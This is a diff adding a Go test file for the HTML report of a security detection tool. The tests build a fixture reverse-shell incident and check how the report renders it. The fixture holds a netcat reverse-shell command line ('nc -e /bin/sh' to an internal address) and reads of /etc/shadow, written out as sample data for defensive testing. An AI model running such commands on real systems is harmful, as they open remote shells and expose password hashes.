@@ -1,0 +1,202 @@
+package report
+
+import (
+	"encoding/json"
+	"fmt"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+)
+
+// storyReport is a reverse shell's story: three dup2 alerts of one shell,
+// each with its drill-down, a shadow read on a second host, and the story's
+// tree with the detections pinned on their processes.
+func storyReport() *Report {
+	base := time.Date(2026, 11, 22, 20, 51, 37, 0, time.UTC)
+	sh := Process{Pid: 4242, Name: "sh", Exe: "/usr/bin/sh", Cmdline: "sh -c nc -e /bin/sh 10.0.0.9 45555", User: "root", Start: base}
+	r := &Report{
+		Title:    "retrace replay: story",
+		Captures: []CaptureInfo{{File: "web.scap.zst", Hostname: "web-01"}, {File: "db.scap.zst", Hostname: "db-01"}},
+	}
+	for i := range 3 {
+		r.Detections = append(r.Detections, Detection{
+			Time: base.Add(time.Duration(i) * time.Millisecond), Rule: "Reverse Shell Redirects STDIN/STDOUT", Priority: "Critical",
+			Output: fmt.Sprintf("dup2 fd=%d", i), Hostname: "web-01", Capture: "web.scap.zst", EventNum: uint64(100 + i), Frame: 2,
+			EventType: "dup2", Process: sh, Network: []string{"tcp 10.0.0.2:51234->10.0.0.9:45555"},
+			Drill: &Drill{
+				Before: []ContextEvent{{Num: uint64(99 + i), Line: fmt.Sprintf("%d sh connect 10.0.0.9:45555", 99+i)}},
+				Event:  ContextEvent{Num: uint64(100 + i), Line: fmt.Sprintf("%d sh dup2 fd=%d", 100+i, i)},
+				After:  []ContextEvent{{Num: uint64(120 + i), Line: "read id; uname -a"}},
+				Next: []Step{
+					{Activity: Activity{Time: base.Add(time.Second), Kind: "exec", Object: "id"}, Pid: 4250, Name: "id", Depth: 1},
+					{Activity: Activity{Time: base.Add(2 * time.Second), Kind: "open-read", Object: "/etc/shadow"}, Pid: 4251, Name: "cat", Depth: 1},
+					{Activity: Activity{Time: base.Add(3 * time.Second), Kind: "connect", Object: "tcp 10.0.0.2:51300->10.0.0.9:8080"}, Pid: 4242, Name: "sh"},
+				},
+				NextCut: 4,
+			},
+		})
+	}
+	r.Detections = append(r.Detections, Detection{
+		Time: base.Add(5 * time.Second), Rule: "Read sensitive file untrusted", Priority: "Warning", Output: "cat /etc/shadow",
+		Hostname: "db-01", Capture: "db.scap.zst", EventNum: 7, Frame: -1, EventType: "openat",
+		Process: Process{Pid: 77, Name: "cat", Cmdline: "cat /etc/shadow", User: "root"}, Files: []string{"/etc/shadow"},
+	})
+	r.Tree = []ProcessNode{{
+		Process: Process{Pid: 1, Name: "systemd"}, Host: "web-01",
+		Children: []ProcessNode{{Process: sh, Host: "web-01", Pins: []int{0, 1, 2}}},
+	}, {
+		Process: Process{Pid: 77, Name: "cat"}, Host: "db-01", Pins: []int{3},
+	}}
+	return r
+}
+
+func pageData(t *testing.T, page string) htmlData {
+	t.Helper()
+	m := regexp.MustCompile(`(?s)<script type="application/json" id="retrace-data">(.*?)</script>`).FindStringSubmatch(page)
+	if m == nil {
+		t.Fatal("no data block")
+	}
+	var data htmlData
+	if err := json.Unmarshal([]byte(m[1]), &data); err != nil {
+		t.Fatal(err)
+	}
+	return data
+}
+
+func TestHTMLStoryData(t *testing.T) {
+	tests := []struct {
+		name      string
+		max       int
+		embedded  int
+		notice    string
+		pins      []string
+		wantGroup []int
+	}{
+		{name: "all embedded", embedded: 4, wantGroup: []int{0, 0, 0, 1},
+			pins: []string{`data-i="0" title="Open the detection">Reverse Shell Redirects STDIN/STDOUT ×3<`, `data-i="3" title="Open the detection">Read sensitive file untrusted<`}},
+		{name: "bound reached", max: 2, embedded: 2, wantGroup: []int{0, 0},
+			notice: "This page holds the first 2 of 4 detections; 2 more are counted in the summary but not listed",
+			pins:   []string{`data-i="0" title="Open the detection">Reverse Shell Redirects STDIN/STDOUT ×2<`}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			var b strings.Builder
+			if err := WriteHTML(&b, storyReport(), Options{MaxDetections: tc.max}); err != nil {
+				t.Fatal(err)
+			}
+			page := b.String()
+			data := pageData(t, page)
+			if data.Total != 4 || len(data.Detections) != tc.embedded {
+				t.Fatalf("total %d, embedded %d; want 4 and %d", data.Total, len(data.Detections), tc.embedded)
+			}
+			for i, d := range data.Detections {
+				if d.Group != tc.wantGroup[i] {
+					t.Errorf("detection %d in group %d, want %d", i, d.Group, tc.wantGroup[i])
+				}
+			}
+			d := data.Detections[0]
+			if d.Drill == nil || d.Drill.Event != "100 sh dup2 fd=0" || len(d.Drill.Next) != 3 || d.Drill.Cut != 4 || d.Frame != 2 {
+				t.Errorf("first detection's drill-down or frame lost: %+v frame %d", d.Drill, d.Frame)
+			}
+			if got := strings.Join(data.Hosts, ","); got != "web-01,db-01" {
+				t.Errorf("hosts = %s", got)
+			}
+			if !strings.Contains(page, `<select id="host" aria-label="Host">`) {
+				t.Error("no host filter on a report of two hosts")
+			}
+			if (tc.notice != "") != strings.Contains(page, `<div class="notice" role="note">`) || !strings.Contains(page, tc.notice) {
+				t.Errorf("notice %q not shown as wanted", tc.notice)
+			}
+			if got := strings.Count(page, `<button type="button" class="pin `); got != len(tc.pins) {
+				t.Errorf("%d pins, want %d", got, len(tc.pins))
+			}
+			for _, p := range tc.pins {
+				if !strings.Contains(page, p) {
+					t.Errorf("page lacks pin %s", p)
+				}
+			}
+			if !strings.Contains(page, `<span class="hostname">host <b>db-01</b></span>`) {
+				t.Error("tree of two hosts does not name them")
+			}
+		})
+	}
+}
+
+// TestHTMLChromiumStory walks the story report as an analyst would: one
+// card for the three alerts of one shell, its drill-down, the host lanes
+// and filter, and the tree's pins leading to the detections.
+func TestHTMLChromiumStory(t *testing.T) {
+	t.Parallel()
+	p := openCDPPage(t, "file://"+writeHTMLFile(t, storyReport(), nil))
+	text := func(sel string) string {
+		return p.evalString(fmt.Sprintf(`(function(){var e=document.querySelector(%q); return e ? e.textContent : "<none>"})()`, sel))
+	}
+	texts := func(sel string) string {
+		return p.evalString(fmt.Sprintf(`Array.prototype.map.call(document.querySelectorAll(%q), function(e){return e.textContent}).join("|")`, sel))
+	}
+	if got, want := text("#count"), "4 detections in 2 cards"; got != want {
+		t.Errorf("count = %q, want %q", got, want)
+	}
+	if got := text("article.det .times"); got != "×3" {
+		t.Errorf("repeat count = %q, want ×3", got)
+	}
+	if got := p.evalString(`Array.prototype.map.call(document.querySelectorAll("#tl .lane-label"), function(e){return e.firstChild.textContent}).join("|")`); got != "web-01|db-01" {
+		t.Errorf("timeline lanes = %q, want one per host", got)
+	}
+
+	// The drill-down: context with the event marked, what came next, and
+	// the files and connections touched.
+	p.eval(`document.querySelector("article.det details.drill").open = true`)
+	for sel, want := range map[string]string{
+		"article.det .ctx .ln.me":         "100 sh dup2 fd=0",
+		"article.det ol.next li .obj":     "id",
+		"article.det details.drill .none": "… 4 more not shown",
+	} {
+		if got := text(sel); got != want {
+			t.Errorf("%s = %q, want %q", sel, got, want)
+		}
+	}
+	if got := texts("article.det details.drill ul.objs li"); got != "/etc/shadow|tcp 10.0.0.2:51234->10.0.0.9:45555|tcp 10.0.0.2:51300->10.0.0.9:8080" {
+		t.Errorf("touched = %q", got)
+	}
+	if got := text("article.det .facts"); got != "evt.num 100dup2web.scap.zstframe 2host web-01" {
+		t.Errorf("facts = %q", got)
+	}
+
+	// Another occurrence of the group replaces the card's detail.
+	p.eval(`document.querySelectorAll("ul.occs button")[1].click()`)
+	p.waitFor(`document.querySelector("article.det.sel .ctx .ln.me") !== null && document.querySelector("article.det.sel .ctx .ln.me").textContent === "101 sh dup2 fd=1"`)
+
+	// The host filter keeps one host's detections.
+	p.eval(`var s=document.getElementById("host"); s.value="1"; s.dispatchEvent(new Event("change"))`)
+	p.waitFor(`document.getElementById("count").textContent === "Showing 1 of 4"`)
+	if h := p.evalString(`location.hash`); !strings.Contains(h, "host=db-01") {
+		t.Errorf("host filter not in the URL fragment: %q", h)
+	}
+	p.eval(`document.getElementById("reset").click()`)
+
+	// The tree tab; a pin opens its detection on the detections tab.
+	p.eval(`document.querySelector("#tabs [data-tab=tree]").click()`)
+	p.waitFor(`document.getElementById("tab-detections").hidden && !document.getElementById("tab-tree").hidden`)
+	p.eval(`document.querySelector("button.pin[data-i='3']").click()`)
+	p.waitFor(`!document.getElementById("tab-detections").hidden && document.querySelector("article.det.sel .rule") !== null`)
+	if got := text("article.det.sel .rule"); got != "Read sensitive file untrusted" {
+		t.Errorf("pin opened %q", got)
+	}
+
+	// A report without detections opens on its tree, not on an empty
+	// dashboard.
+	r := storyReport()
+	r.Detections, r.View = nil, "tree"
+	for i := range r.Tree {
+		r.Tree[i].Pins = nil
+		for j := range r.Tree[i].Children {
+			r.Tree[i].Children[j].Pins = nil
+		}
+	}
+	p.load("file://" + writeHTMLFile(t, r, nil))
+	if got := p.evalString(`String(document.getElementById("tab-detections").hidden) + " " + String(document.getElementById("tab-tree").hidden)`); got != "true false" {
+		t.Errorf("tree view opened with detections hidden, tree hidden = %s, want true false", got)
+	}
+}
